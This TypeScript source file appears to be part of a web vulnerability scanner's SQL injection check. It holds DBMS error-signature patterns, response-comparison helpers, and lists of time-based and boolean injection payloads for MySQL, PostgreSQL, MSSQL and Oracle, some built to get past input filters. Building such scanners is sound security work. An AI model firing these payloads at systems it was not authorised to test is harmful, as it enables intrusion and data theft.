// Tables for the SQL Injection check: DBMS error signatures, sleep payloads per DBMS, and the
// response comparison the boolean technique relies on.

export interface ErrorSignature {
  dbms: 'MySQL/MariaDB' | 'PostgreSQL' | 'SQLite' | 'MSSQL' | 'Oracle';
  pattern: RegExp;
}

// Messages the database (or its driver) itself writes: none can come from our payload's own text.
export const ERROR_SIGNATURES: readonly ErrorSignature[] = [
  { dbms: 'MySQL/MariaDB', pattern: /You have an error in your SQL syntax[^\n<]{0,160}/i },
  { dbms: 'MySQL/MariaDB', pattern: /check the manual that (?:corresponds to|fits) your (?:MySQL|MariaDB) server version/i },
  { dbms: 'MySQL/MariaDB', pattern: /Warning:\s+mysqli?_[a-z_]+\(\)[^\n<]{0,160}/i },
  { dbms: 'MySQL/MariaDB', pattern: /Unknown column '[^'\n]{1,80}' in '(?:where clause|field list|order clause)'/ },
  { dbms: 'MySQL/MariaDB', pattern: /com\.mysql\.jdbc\.exceptions|MySqlClient\.MySqlException/ },
  { dbms: 'PostgreSQL', pattern: /\bERROR:\s+(?:syntax error at or near|unterminated quoted (?:string|identifier) at or near)[^\n<]{0,120}/ },
  { dbms: 'PostgreSQL', pattern: /\binvalid input syntax for (?:type )?(?:integer|numeric|bigint|double precision|boolean|uuid)[^\n<]{0,120}/ },
  { dbms: 'PostgreSQL', pattern: /\b(?:syntax error at or near|unterminated quoted string at or near) "[^"\n]{0,80}"/ },
  { dbms: 'PostgreSQL', pattern: /pg_query\(\): Query failed|org\.postgresql\.util\.PSQLException|Npgsql\.PostgresException/ },
  { dbms: 'SQLite', pattern: /SQLITE_ERROR[^\n<]{0,160}/ },
  { dbms: 'SQLite', pattern: /\bunrecognized token: "[^\n<]{0,80}"/ },
  { dbms: 'SQLite', pattern: /\bnear "[^"\n]{0,60}": syntax error/ },
  { dbms: 'SQLite', pattern: /sqlite3\.OperationalError|System\.Data\.SQLite\.SQLiteException|SQLite3::SQLException/ },
  { dbms: 'MSSQL', pattern: /Unclosed quotation mark after the character string[^\n<]{0,120}/i },
  { dbms: 'MSSQL', pattern: /\bIncorrect syntax near '[^'\n]{0,60}'/ },
  { dbms: 'MSSQL', pattern: /\[Microsoft\]\[ODBC SQL Server Driver\]|System\.Data\.SqlClient\.SqlException|Microsoft OLE DB Provider for SQL Server/ },
  { dbms: 'Oracle', pattern: /\bORA-0(?:0933|0921|1756|0936|1722|0907|0904)[^\n<]{0,120}/ },
  { dbms: 'Oracle', pattern: /quoted string not properly terminated|oracle\.jdbc\.driver|OracleException/ },
];

export interface SignatureMatch {
  dbms: ErrorSignature['dbms'];
  text: string;
}

export function findErrorSignature(body: string): SignatureMatch | null {
  for (const sig of ERROR_SIGNATURES) {
    const m = sig.pattern.exec(body);
    if (m) return { dbms: sig.dbms, text: m[0] };
  }
  return null;
}

/** Payload that breaks quoting in single-quoted, double-quoted and numeric contexts alike. */
export const ERROR_PROBE = `'"`;

export interface SleepPayload {
  dbms: 'MySQL/MariaDB' | 'PostgreSQL' | 'MSSQL' | 'Oracle';
  context: 'string' | 'numeric';
  /** Appended to the original value; `{d}` is the delay in seconds. */
  suffix: string;
  /** How it is built, for the finding: its family (comment style, closing parenthesis, keyword-free...). */
  family: string;
  /** Only tried once a filter was seen: an unfiltered point keeps the first, cheapest list. */
  filtered?: boolean;
}

export const SLEEP_PAYLOADS: readonly SleepPayload[] = [
  { dbms: 'MySQL/MariaDB', context: 'string', family: 'AND subquery', suffix: `' AND (SELECT 1 FROM (SELECT SLEEP({d}))wsc) AND '1'='1` },
  { dbms: 'PostgreSQL', context: 'string', family: 'concatenated subquery', suffix: `'||(SELECT '' FROM pg_sleep({d}))||'` },
  { dbms: 'MSSQL', context: 'string', family: 'stacked query', suffix: `';WAITFOR DELAY '0:0:{d}'--` },
  { dbms: 'Oracle', context: 'string', family: 'concatenated function', suffix: `'||DBMS_PIPE.RECEIVE_MESSAGE('wsc',{d})||'` },
  { dbms: 'MySQL/MariaDB', context: 'numeric', family: 'AND subquery', suffix: ` AND (SELECT 1 FROM (SELECT SLEEP({d}))wsc)` },
  { dbms: 'PostgreSQL', context: 'numeric', family: 'added subquery', suffix: `+(SELECT 0 FROM pg_sleep({d}))` },
  { dbms: 'MSSQL', context: 'numeric', family: 'stacked query', suffix: `;WAITFOR DELAY '0:0:{d}'--` },
  { dbms: 'Oracle', context: 'numeric', family: 'added function', suffix: `+DBMS_PIPE.RECEIVE_MESSAGE('wsc',{d})` },
  // Behind a filter: keyword-free (a bare function call concatenated or subtracted), space-free
  // (comments for spaces), and closing a parenthesis the query opened.
  { dbms: 'PostgreSQL', context: 'string', family: 'keyword-free concatenation', suffix: `'||pg_sleep({d})||'`, filtered: true },
  { dbms: 'MySQL/MariaDB', context: 'string', family: 'keyword-free subtraction', suffix: `'-SLEEP({d})-'`, filtered: true },
  { dbms: 'MySQL/MariaDB', context: 'string', family: 'comment for spaces', suffix: `'/**/AND/**/SLEEP({d})/**/AND/**/'1'='1`, filtered: true },
  { dbms: 'MySQL/MariaDB', context: 'string', family: 'closing parenthesis', suffix: `') AND SLEEP({d}) AND ('1'='1`, filtered: true },
  { dbms: 'MSSQL', context: 'string', family: 'comment for spaces', suffix: `';WAITFOR/**/DELAY/**/'0:0:{d}'--`, filtered: true },
  { dbms: 'MySQL/MariaDB', context: 'numeric', family: 'keyword-free subtraction', suffix: `-SLEEP({d})`, filtered: true },
  { dbms: 'MySQL/MariaDB', context: 'numeric', family: 'comment for spaces', suffix: `/**/AND/**/SLEEP({d})`, filtered: true },
  { dbms: 'PostgreSQL', context: 'numeric', family: 'comment for spaces', suffix: `/**/AND/**/0=(SELECT/**/0/**/FROM/**/pg_sleep({d}))`, filtered: true },
  { dbms: 'MSSQL', context: 'numeric', family: 'comment for spaces', suffix: `;WAITFOR/**/DELAY/**/'0:0:{d}'--`, filtered: true },
];

/** Delays of the first probe and of its confirmation: different, so a coincidence cannot pass twice. */
export const SLEEP_DELAYS = [2, 4] as const;

export interface BooleanPair {
  context: 'numeric' | 'string' | 'string-like' | 'string-dq' | 'string-comment';
  /** How it is built, for the finding (and the DBMS when only some understand it). */
  family: string;
  /** Build the true and false suffixes around two random numbers a != b. */
  pair?(a: number, b: number): [string, string];
  /**
   * Or whole values built from the original `v` (a split string concatenated again, a number as a
   * difference); null when `v` cannot carry it.
   */
  full?(v: string, a: number, b: number): [string, string] | null;
  /**
   * A value a sanitiser that strips quotes or operators would also turn back into `v`, while SQL
   * reads it as another value: if it leaves the page as it was, the pair proved stripping, not SQL.
   */
  control?(v: string): string;
  /** Only tried once a filter was seen. */
  filtered?: boolean;
}

/** `v` split at a point that depends on `a`, so two rounds split it differently. */
function split(v: string, a: number): [string, string] | null {
  if (v.length < 2 || /['"\\]/.test(v)) return null;
  const at = 1 + (a % (v.length - 1));
  return [v.slice(0, at), v.slice(at)];
}

const concat = (op: string) => (v: string, a: number, b: number): [string, string] | null => {
  const s = split(v, a);
  return s ? [`${s[0]}'${op}'${s[1]}`, `${s[0]}'${op}'${s[1]}${b}`] : null;
};
const unconcat = (v: string): string => {
  const s = split(v, 0) ?? [v, ''];
  return `${s[0]}''${s[1]}`;
};

export const BOOLEAN_PAIRS: readonly BooleanPair[] = [
  { context: 'numeric', family: 'AND comparison', pair: (a, b) => [` AND ${a}=${a}`, ` AND ${a}=${b}`] },
  { context: 'string', family: 'AND comparison', pair: (a, b) => [`' AND '${a}'='${a}`, `' AND '${a}'='${b}`] },
  // inside LIKE '%...%': the closing wildcard is matched by our own '%'='%'
  { context: 'string-like', family: 'LIKE wildcard', pair: (a, b) => [`%' AND ${a}=${a} AND '%'='`, `%' AND ${a}=${b} AND '%'='`] },
  { context: 'string-comment', family: 'line comment', pair: (a, b) => [`' AND ${a}=${a}-- `, `' AND ${a}=${b}-- `] },
  { context: 'string-dq', family: 'double quotes', pair: (a, b) => [`" AND "${a}"="${a}`, `" AND "${a}"="${b}`] },
  // Behind a filter. Keyword-free: the value split and concatenated again is the same value
  // (|| for SQLite, PostgreSQL, Oracle; + for MSSQL; adjacent literals for MySQL), and a number
  // written as a difference is the same number.
  { context: 'string', family: 'closing parenthesis', pair: (a, b) => [`') AND ('${a}'='${a}`, `') AND ('${a}'='${b}`], filtered: true },
  { context: 'string', family: 'comment for spaces', pair: (a, b) => [`'/**/AND/**/'${a}'='${a}`, `'/**/AND/**/'${a}'='${b}`], filtered: true },
  { context: 'string', family: 'keyword-free || concatenation (SQLite, PostgreSQL, Oracle)', full: concat('||'), control: unconcat, filtered: true },
  { context: 'string', family: 'keyword-free + concatenation (MSSQL)', full: concat('+'), control: unconcat, filtered: true },
  { context: 'string', family: 'keyword-free adjacent literals (MySQL/MariaDB)', full: concat(' '), control: unconcat, filtered: true },
  { context: 'numeric', family: 'comment for spaces', pair: (a, b) => [`/**/AND/**/${a}=${a}`, `/**/AND/**/${a}=${b}`], filtered: true },
  { context: 'numeric', family: 'closing parenthesis', pair: (a, b) => [`) AND (${a}=${a}`, `) AND (${a}=${b}`], filtered: true },
  { context: 'numeric', family: 'keyword-free arithmetic', full: (v, a, b) => (/^\d{1,9}$/.test(v) ? [`${Number(v) + a}-${a}`, `${Number(v) + a}-${a + b}`] : null), filtered: true },
];

/** What the SQL filter probe asks about: quotes alone and in pairs, parentheses, spaces, comments, keywords. */
export const SQL_TOKENS = ["'", "''", '"', '(', '()', ' ', '--', '#', '/**/', 'AND', 'OR', 'SELECT', 'SLEEP', '||', ';'] as const;

function htmlEscape(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
}

function reflections(s: string): string[] {
  const forms = new Set<string>([s, htmlEscape(s), s.replace(/'/g, '&#x27;').replace(/"/g, '&quot;'), encodeURIComponent(s), JSON.stringify(s).slice(1, -1)]);
  forms.add(s.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`));
  return [...forms].filter((f) => f.length > 0);
}

/**
 * A response body with the reflections of `payload` turned back into `original`, so a page that
 * merely echoes its input compares equal to the page for the original value.
 */
export function unreflect(body: string, payload: string, original: string): string {
  if (payload === original) return body;
  let out = body;
  const from = reflections(payload);
  const to = reflections(original);
  from.forEach((f, i) => {
    out = out.split(f).join(to[i] ?? original);
  });
  return out;
}

function segments(body: string): string[] {
  return body.split(/\n|(?=<)/).map((s) => s.trim()).filter((s) => s !== '');
}

/** Share of the segments (lines and tags) two bodies have in common, 0..1. */
export function similarity(a: string, b: string): number {
  if (a === b) return 1;
  const sa = segments(a);
  const sb = segments(b);
  if (sa.length === 0 && sb.length === 0) return 1;
  const counts = new Map<string, number>();
  for (const s of sa) counts.set(s, (counts.get(s) ?? 0) + 1);
  let common = 0;
  for (const s of sb) {
    const n = counts.get(s) ?? 0;
    if (n > 0) {
      common++;
      counts.set(s, n - 1);
    }
  }
  return common / Math.max(sa.length, sb.length);
}
